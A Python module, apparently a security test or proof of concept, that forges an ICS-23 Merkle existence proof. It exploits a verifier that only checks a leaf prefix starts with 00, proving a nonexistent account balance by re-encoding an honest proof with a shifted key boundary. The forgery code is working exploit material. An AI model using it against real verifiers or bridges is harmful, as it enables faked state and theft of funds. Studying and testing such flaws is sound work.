"""A forged proof that the published ICS-23 verifier believes.

That verifier asks that the prefix of a leaf *begins* with 00. The hash of a leaf covers

    00 ‖ length ‖ key ‖ 20 ‖ hash of the value

and where the boundary between prefix and key lies, only the proof says. So if somebody may choose
part of a key, a byte in it can serve as the length of a shorter key behind it: with prefix
`00 ‖ length ‖ front of the key`, the same hash is that of a leaf with the rest of the key, in
whatever table the forger likes.
"""

from dataclasses import dataclass
from hashlib import sha256

from chain.trie import ics23
from chain.trie.proof import Existence
from chain.trie.trie import Trie


@dataclass(frozen=True, slots=True)
class Forgery:
    """A proof of `key`, which is not in the state with `root`, made of an honest one."""

    root: bytes
    key: bytes
    honest: Existence
    commitment_proof: bytes


def forged_existence() -> Forgery:
    """Forge a balance in table 03 01, owning a leaf of table 07 01 whose key can be chosen."""
    victim = b"\x03\x01" + sha256(b"account").digest()[:20]
    table = b"\x07\x01"
    chosen = table + bytes([len(victim)]) + victim
    items = {bytes([0, 0, number]): b"state" for number in range(9)}
    items |= {chosen: b"a million", b"\x07\x01" + bytes(23): b"else"}
    trie, version = Trie.from_sorted(sorted(items.items()))
    honest = trie.prove(version, chosen, items.__getitem__)
    assert isinstance(honest, Existence)
    assert victim not in items
    prefix = b"\x00" + bytes([len(chosen)]) + table
    value_hash = sha256(honest.value).digest()
    node_hash = sha256(prefix + bytes([len(victim)]) + victim + b"\x20" + value_hash).digest()
    for step in honest.path:
        node_hash = sha256(step.prefix + node_hash + step.suffix).digest()
    assert node_hash == version.root_hash
    return Forgery(
        root=version.root_hash,
        key=victim,
        honest=honest,
        commitment_proof=_with_leaf_prefix(Existence(victim, honest.value, honest.path), prefix),
    )


def _with_leaf_prefix(proof: Existence, prefix: bytes) -> bytes:
    """Encode a proof with another leaf prefix, and the lengths around it corrected."""
    encoded = ics23.encode(proof)
    # The message is field 1, its length, and the existence, in which the leaf is field 3.
    existence = encoded[2:] if encoded[1] < 0x80 else encoded[3:]
    ours = b"\x1a\x09" + bytes.fromhex("0801180120012a0100")
    assert existence.count(ours) == 1
    forged = bytes.fromhex("0801180120012a") + bytes([len(prefix)]) + prefix
    existence = existence.replace(ours, b"\x1a" + bytes([len(forged)]) + forged)
    length = len(existence)
    varint = bytes([length]) if length < 0x80 else bytes([length & 0x7F | 0x80, length >> 7])
    return b"\x0a" + varint + existence
